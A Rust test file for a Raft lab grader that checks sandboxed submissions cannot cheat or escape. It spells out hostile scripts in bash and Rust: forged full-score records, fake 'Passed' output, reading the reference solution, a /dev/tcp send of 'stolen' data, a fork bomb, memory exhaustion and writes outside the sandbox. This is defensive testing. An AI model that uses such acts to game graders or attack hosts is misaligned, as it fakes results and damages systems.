//! `grade --submission` and `grade --peer-bin` against submissions that cheat or misbehave
//! (issue 27): every peer is a process of the submission's code, each in a sandbox of its own,
//! and the tests, the verdict and the record stay in the grader's process. Each hostile
//! submission is a Raft that does nothing (an honest zero) plus one dishonest or broken act;
//! each must score zero, say in the record what became of its processes, and change nothing
//! outside its sandbox. The reference, run the same way, scores full marks.
//!
//! Two kinds, for CI's budget:
//!
//! - **peer binaries** (`--peer-bin`, not ignored): the acts as shell scripts that the grader
//!   starts as its peers (`SCRIPT peer SOCKET`), so no build is needed; a grade takes a few
//!   seconds. They check everything that happens when the submission's code runs: the record
//!   is the grader's, no file outside changes, no process survives, no network, limits hold,
//!   and the deadline.
//! - **crates** (`--submission`, ignored for their cost): the same acts in Rust, in a student
//!   crate built in the sandbox, plus a build script that writes outside its folder, two
//!   submissions graded back to back, and one that does not compile. The first grade builds
//!   the template of the dependencies (about 3 min on 2 busy cores), later ones about 7 s
//!   each. `cargo test -p grader --test submissions -- --ignored`; the figures are in
//!   docs/GRADING.md.
//!
//! Where the sandbox cannot be made these tests say so and pass without grading, except in CI
//! (`CI=true`: `.ci/run` installs bubblewrap), where that is a failure.

// The helpers outside #[test] functions check as the tests do: a panic is the report.
#![allow(clippy::unwrap_used)]

mod support;

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use grader::grade::record::{GradeRecord, Isolation, Status};
use raft_rpc::RaftPeer;

/// One grade at a time: a grade sets the process's peer launcher.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

fn target_dir() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("grade-submissions")
}

/// Whether the sandbox can be made here (else the test is skipped, with a note; in CI a
/// failure).
fn sandbox_here() -> bool {
    support::sandbox_here(201_000)
}

/// Runs `grade ARGS --format json --json FILE` in this process; the record printed, checked
/// to be the one written.
fn grade(args: &[&str], json: &Path) -> GradeRecord {
    let _one = ONE_AT_A_TIME
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let mut argv: Vec<String> = [
        "grade",
        "--format",
        "json",
        "--json",
        json.to_str().unwrap(),
    ]
    .iter()
    .chain(args)
    .map(|s| s.to_string())
    .collect();
    argv.shrink_to_fit();
    let mut out = Vec::new();
    let code = grader::grade::main_with_args::<RaftPeer>(&argv, &mut out);
    let text = String::from_utf8(out).unwrap();
    assert_eq!(code, 0, "graded, not a grader error: {text}");
    let record = GradeRecord::from_json(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    let written = std::fs::read_to_string(json).unwrap();
    assert_eq!(
        GradeRecord::from_json(&written).unwrap(),
        record,
        "the file written is the grader's record, untouched"
    );
    record
}

/// One short test, once, on the wall clock (process mode has no virtual time).
const ONE_TEST: &[&str] = &[
    "2A",
    "--test",
    "initial_election_2a",
    "--real-time-runs",
    "1",
    "--seed",
    "3",
];

/// Processes on this machine whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<String> {
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| std::fs::read(e.ok()?.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains(marker))
        .collect()
}

/// The reference Raft's sources: what a submission must not read.
fn reference_source() -> PathBuf {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../raft-core/src/lib.rs");
    std::path::absolute(p).unwrap()
}

/// What each hostile submission tries, and what the grade must show.
struct Hostile {
    name: &'static str,
    /// Shell (bash) for the peer-binary version.
    script: String,
    /// Rust statements (run once per process, at the first `make`) for the crate version.
    rust: String,
}

/// The ten hostile acts of issue 27 (item 5), against the files and ports of `victim`.
fn hostile_acts(victim: &Victim) -> Vec<Hostile> {
    let json = victim.json.display().to_string();
    let file = victim.file.display().to_string();
    let reference = reference_source().display().to_string();
    let port = victim.port;
    let tag = &victim.tag;
    let forged = r#"{"schema":"raft-lab-grade/1","status":"graded","message":null,"submission":null,"implementation":null,"seed":3,"virtual_runs":1,"real_time_runs":0,"invariants":true,"score":100.0,"max_score":100.0,"parts":[],"tests":[],"cpu_secs":0.0,"wall_secs":0.0}"#;
    vec![
        Hostile {
            name: "writes a full-score record",
            script: format!(
                "for f in {json} /out/record.json ./record.json /tmp/record.json; do \
                 echo '{forged}' > \"$f\"; done; exit 0"
            ),
            rust: format!(
                r#"for f in ["{json}", "/out/record.json", "record.json", "/tmp/record.json"] {{
                    let _ = std::fs::write(f, {forged:?});
                }}"#
            ),
        },
        Hostile {
            name: "leaves a process behind to rewrite the outputs",
            script: format!(
                "setsid bash -c 'for i in $(seq 600); do echo forged > {json}; \
                 echo forged > {file}; sleep 0.1; done; echo left-{tag}' < /dev/null \
                 > /dev/null 2>&1 & exit 0"
            ),
            rust: format!(
                r#"let _ = std::process::Command::new("setsid").args(["bash", "-c",
                    "for i in $(seq 600); do echo forged > {json}; echo forged > {file}; \
                     sleep 0.1; done; echo left-{tag}"])
                    .stdin(std::process::Stdio::null()).spawn();"#
            ),
        },
        Hostile {
            name: "prints fake Passed lines",
            script: "for i in $(seq 50); do echo 'Test (2A): initial election ...'; \
                     echo '  ... Passed --   3.0  3   58   16522    0'; done; echo PASS; \
                     echo 'ok  6.5840/raft 3.0s'; sleep 1; exit 0"
                .to_string(),
            rust: r#"for _ in 0..50 { println!("Test (2A): initial election ...\n  ... Passed --   3.0  3   58   16522    0"); }
                println!("PASS\nok  \t6.5840/raft\t3.0s");"#
                .to_string(),
        },
        Hostile {
            name: "exits 0 from make()",
            script: "exit 0".to_string(),
            rust: "std::process::exit(0);".to_string(),
        },
        Hostile {
            name: "writes outside its folder",
            script: format!(
                "echo overwritten > {file}; echo x > /tmp/{tag}; mkdir -p /work && \
                 echo x > /work/{tag}; exit 0"
            ),
            rust: format!(
                r#"let _ = std::fs::write("{file}", "overwritten");
                let _ = std::fs::write("/work/{tag}", "x");"#
            ),
        },
        Hostile {
            name: "reads the reference Raft",
            // Exit 3 when it could read it, 4 when it could not: the record's peer figures.
            script: format!("if cat {reference} > /dev/null 2>&1; then exit 3; else exit 4; fi"),
            rust: format!(
                r#"if std::fs::read_to_string("{reference}").is_ok() {{ std::process::exit(3); }}
                std::process::exit(4);"#
            ),
        },
        Hostile {
            name: "opens a TCP connection",
            script: format!(
                "if (echo stolen > /dev/tcp/127.0.0.1/{port}) 2>/dev/null; then exit 5; \
                 else exit 6; fi"
            ),
            rust: format!(
                r#"if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:{port}") {{
                    use std::io::Write; let _ = s.write_all(b"stolen"); std::process::exit(5);
                }}
                std::process::exit(6);"#
            ),
        },
        Hostile {
            name: "forks without end",
            script: format!(
                "n=0; while sleep 300.{tag}1 & do n=$((n+1)); [ $n -gt 5000 ] && break; done; \
                 echo forked $n; exit 0"
            ),
            rust: format!(
                r#"let mut kids = Vec::new();
                while let Ok(k) = std::process::Command::new("sleep").arg("300.{tag}1").spawn() {{
                    kids.push(k);
                    if kids.len() > 5000 {{ break; }}
                }}
                eprintln!("forked {{}}", kids.len());
                std::mem::forget(kids);"#
            ),
        },
        Hostile {
            name: "allocates without end",
            script: "x=aaaaaaaaaaaaaaaa; while :; do x=\"$x$x\"; done".to_string(),
            rust: "let mut hoard: Vec<Vec<u8>> = Vec::new();\n\
                   loop { hoard.push(vec![1u8; 64 << 20]); }"
                .to_string(),
        },
        Hostile {
            name: "children hold its output pipes",
            script: format!("for i in $(seq 50); do sleep 300.{tag}2 & done; exit 0"),
            rust: format!(
                r#"for _ in 0..50 {{
                    let _ = std::process::Command::new("sleep").arg("300.{tag}2").spawn();
                }}"#
            ),
        },
    ]
}

/// What the hostile submissions aim at: the grader's record, a file of the machine, a port.
struct Victim {
    _dir: tempfile::TempDir,
    json: PathBuf,
    file: PathBuf,
    listener: TcpListener,
    port: u16,
    tag: String,
}

impl Victim {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let json = dir.path().join("grade.json");
        let file = dir.path().join("victim.txt");
        std::fs::write(&file, "untouched").unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        Victim {
            _dir: dir,
            json,
            file,
            listener,
            port,
            tag: format!("4471{}", std::process::id()),
        }
    }

    /// Checks that nothing of the machine changed and that no process of the submission is
    /// left.
    fn check_untouched(&self, name: &str) {
        assert_eq!(
            std::fs::read_to_string(&self.file).unwrap(),
            "untouched",
            "{name}: a file of the machine changed"
        );
        assert!(
            !Path::new(&format!("/work/{}", self.tag)).exists(),
            "{name}: wrote /work"
        );
        assert!(
            !Path::new(&format!("/tmp/{}", self.tag)).exists(),
            "{name}: wrote /tmp"
        );
        assert!(
            processes_with(&self.tag).is_empty(),
            "{name}: processes left behind: {:?}",
            processes_with(&self.tag)
        );
        match self.listener.accept() {
            Ok((mut s, _)) => {
                let mut got = String::new();
                let _ = s.read_to_string(&mut got);
                panic!("{name}: a connection from the sandbox: {got:?}");
            }
            Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
        }
    }
}

/// The checks every hostile grade passes: a zero, graded by the grader in the sandbox, with
/// the peers' figures in its message; no exit that shows a leak (3: read the reference, 5:
/// reached the network); done within `max_wall` seconds (a build included).
fn check_zero(name: &str, r: &GradeRecord, max_wall: f64) {
    eprintln!(
        "{name}: score {}/{}, status {:?}, {:.1} s: {}",
        r.score,
        r.max_score,
        r.status,
        r.wall_secs,
        r.message.as_deref().unwrap_or("")
    );
    assert_eq!(r.score, 0.0, "{name}: {r:?}");
    assert!(r.max_score > 0.0);
    assert_eq!(r.status, Status::Graded, "{name}: {:?}", r.message);
    assert_eq!(r.isolation, Some(Isolation::Sandbox));
    let message = r.message.as_deref().unwrap_or("");
    assert!(message.contains("peer processes:"), "{name}: {message}");
    assert!(
        message.contains("no process of the sandbox's user left")
            || grader::grade::sandbox::euid().is_none_or(|u| u != 0),
        "{name}: {message}"
    );
    for leak in ["exit status: 3", "exit status: 5"] {
        assert!(!message.contains(leak), "{name}: {message}");
    }
    assert!(r.wall_secs < max_wall, "{name}: the grade was held");
}

/// Writes `script` as an executable peer binary.
fn script_peer(dir: &Path, name: &str, script: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let path = dir.join(name.replace(' ', "-"));
    std::fs::write(&path, format!("#!/bin/bash\n{script}\n")).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

#[test]
fn the_reference_scores_full_marks_with_sandboxed_peer_processes() {
    if !sandbox_here() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let json = dir.path().join("grade.json");
    let r = grade(
        &[
            "2A",
            "--real-time-runs",
            "1",
            "--seed",
            "3",
            "--peer-bin",
            env!("CARGO_BIN_EXE_grader"),
        ],
        &json,
    );
    assert_eq!(r.status, Status::Graded, "{:?}", r.message);
    assert_eq!(r.isolation, Some(Isolation::Sandbox));
    assert_eq!((r.virtual_runs, r.real_time_runs), (0, 1));
    assert!((r.score - 25.0).abs() < 1e-9, "{r:?}");
    assert!(r.tests.iter().all(|t| t.runs.len() == 1));
}

#[test]
fn hostile_peer_binaries_score_zero_and_change_nothing() {
    if !sandbox_here() {
        return;
    }
    let victim = Victim::new();
    let dir = tempfile::tempdir().unwrap();
    for act in hostile_acts(&victim) {
        let peer = script_peer(dir.path(), act.name, &act.script);
        let mut args = ONE_TEST.to_vec();
        args.extend(["--peer-bin", peer.to_str().unwrap()]);
        let r = grade(&args, &victim.json);
        check_zero(act.name, &r, 60.0);
        victim.check_untouched(act.name);
    }
}

#[test]
fn a_peer_past_the_deadline_is_killed_and_the_grade_is_a_timeout() {
    if !sandbox_here() {
        return;
    }
    let victim = Victim::new();
    let dir = tempfile::tempdir().unwrap();
    // Never connects; its child holds the output pipes.
    let script = format!("sleep 300.{}3 & sleep 300.{}3", victim.tag, victim.tag);
    let peer = script_peer(dir.path(), "hangs", &script);
    let mut args = ONE_TEST.to_vec();
    args.extend(["--timeout", "4", "--peer-bin", peer.to_str().unwrap()]);
    let r = grade(&args, &victim.json);
    eprintln!(
        "hangs: {:?} in {:.1} s: {:?}",
        r.status, r.wall_secs, r.message
    );
    assert_eq!(r.status, Status::TimedOut, "{:?}", r.message);
    assert_eq!(r.score, 0.0);
    assert!(r.wall_secs < 15.0, "{}", r.wall_secs);
    victim.check_untouched("hangs");
}

/// A student crate whose Raft does nothing but `act` (Rust statements run once per process,
/// at the first `make`), with `build_rs` as its build script when given.
fn hostile_crate(dir: &Path, act: &str, build_rs: Option<&str>) {
    std::fs::create_dir_all(dir.join("src")).unwrap();
    let build = if build_rs.is_some() {
        "build = \"build.rs\"\n"
    } else {
        ""
    };
    std::fs::write(
        dir.join("Cargo.toml"),
        format!(
            "[package]\nname = \"raft-student\"\nversion = \"0.1.0\"\nedition = \"2024\"\n{build}\n\
             [lib]\nname = \"raft_student\"\n\n[dependencies]\nlab-api.workspace = true\n\
             labrpc-sim.workspace = true\nbytes.workspace = true\n"
        ),
    )
    .unwrap();
    if let Some(b) = build_rs {
        std::fs::write(dir.join("build.rs"), b).unwrap();
    }
    std::fs::write(
        dir.join("src/lib.rs"),
        format!(
            "//! A dishonest submission.\n#![allow(missing_docs, clippy::all)]\n\
             use std::sync::Arc;\nuse bytes::Bytes;\n\
             use lab_api::{{LabRaft, PeerArgs, Started}};\nuse labrpc_sim::Service;\n\
             pub struct Raft;\n\
             static ONCE: std::sync::Once = std::sync::Once::new();\n\
             fn act() {{\n{act}\n}}\n\
             impl LabRaft for Raft {{\n\
             fn make(_args: PeerArgs) -> Arc<Self> {{ ONCE.call_once(act); Arc::new(Raft) }}\n\
             fn service(self: Arc<Self>) -> Service {{ Service::new(\"Raft\") }}\n\
             fn start(self: &Arc<Self>, _c: Bytes) -> Option<Started> {{ None }}\n\
             fn get_state(&self) -> (u64, bool) {{ (0, false) }}\n\
             fn snapshot(self: &Arc<Self>, _i: u64, _s: Bytes) {{}}\n\
             fn kill(&self) {{}}\n}}\n"
        ),
    )
    .unwrap();
}

/// Grades the crate at `sub` on [`ONE_TEST`], in the shared template's target directory.
fn grade_crate(sub: &Path, json: &Path) -> GradeRecord {
    let mut args = ONE_TEST.to_vec();
    let target = target_dir();
    args.extend([
        "--timeout",
        "1800",
        "--submission",
        sub.to_str().unwrap(),
        "--target-dir",
        target.to_str().unwrap(),
    ]);
    grade(&args, json)
}

#[test]
#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
fn hostile_crates_score_zero_and_change_nothing() {
    if !sandbox_here() {
        return;
    }
    let victim = Victim::new();
    let tmp = tempfile::tempdir().unwrap();
    for (k, act) in hostile_acts(&victim).into_iter().enumerate() {
        let sub = tmp.path().join(format!("hostile-{k}"));
        hostile_crate(&sub, &act.rust, None);
        let r = grade_crate(&sub, &victim.json);
        // The first grade builds the template of the dependencies.
        check_zero(act.name, &r, 1200.0);
        victim.check_untouched(act.name);
    }
}

#[test]
#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
fn a_build_script_writes_and_reads_nothing_outside_its_sandbox() {
    if !sandbox_here() {
        return;
    }
    let victim = Victim::new();
    let reference = reference_source();
    // Writes where it can (the host's /tmp, beside the crate, a file of the host), and fails
    // the build if it could read the reference Raft.
    let build_rs = format!(
        r#"fn main() {{
            let _ = std::fs::write("/tmp/{tag}", "x");
            let _ = std::fs::write("{victim}", "overwritten");
            let dir = std::env::var("CARGO_MANIFEST_DIR").unwrap();
            let _ = std::fs::write(format!("{{dir}}/../escaped.txt"), "x");
            let _ = std::fs::write(format!("{{dir}}/written.txt"), "x");
            if std::fs::read_to_string("{reference}").is_ok() {{
                panic!("LEAKED the reference sources");
            }}
        }}"#,
        tag = victim.tag,
        victim = victim.file.display(),
        reference = reference.display(),
    );
    let tmp = tempfile::tempdir().unwrap();
    let sub = tmp.path().join("raft-student");
    hostile_crate(&sub, "", Some(&build_rs));
    let r = grade_crate(&sub, &victim.json);
    check_zero("build script", &r, 1200.0);
    victim.check_untouched("build script");
    assert!(!sub.join("written.txt").exists() && !tmp.path().join("escaped.txt").exists());
}

#[test]
#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
fn two_submissions_back_to_back_each_get_their_own_verdict() {
    if !sandbox_here() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let json = tmp.path().join("grade.json");
    let alt = tmp.path().join("alice");
    let skeleton = tmp.path().join("bob");
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    copy_dir(&repo.join("raft-alt"), &alt);
    copy_dir(&repo.join("raft-student"), &skeleton);
    let a = grade_crate(&alt, &json);
    let b = grade_crate(&skeleton, &json);
    let a2 = grade_crate(&alt, &json);
    assert_eq!(a.status, Status::Graded, "{:?}", a.message);
    assert!(a.score > 0.0 && a.score == a.max_score, "{a:?}");
    assert_eq!(b.status, Status::Graded, "{:?}", b.message);
    assert_eq!(b.score, 0.0, "the skeleton's own verdict, not alice's");
    assert_eq!(a2.score, a.score);
}

#[test]
#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
fn a_submission_that_does_not_compile_is_a_zero_with_the_errors() {
    if !sandbox_here() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let sub = tmp.path().join("raft-student");
    hostile_crate(&sub, "let x: u32 = \"nope\";", None);
    let r = grade_crate(&sub, &tmp.path().join("grade.json"));
    assert_eq!(r.status, Status::BuildFailed);
    assert!(r.message.as_deref().unwrap().contains("mismatched types"));
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let dst = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            if e.file_name() != "target" {
                copy_dir(&e.path(), &dst);
            }
        } else {
            std::fs::copy(e.path(), dst).unwrap();
        }
    }
}

#[test]
fn flags_that_do_not_apply_to_a_submission_are_usage_errors() {
    for extra in [
        &["--real-time-runs", "0"][..],
        &["--impl", "student"],
        &["--kv", "reference"],
    ] {
        let mut argv: Vec<String> = ["grade", "2A", "--peer-bin", "/nonexistent/peer"]
            .iter()
            .chain(extra)
            .map(|s| s.to_string())
            .collect();
        argv.shrink_to_fit();
        let code = grader::grade::main_with_args::<RaftPeer>(&argv, &mut Vec::new());
        assert_eq!(code, 2, "{extra:?}");
    }
}
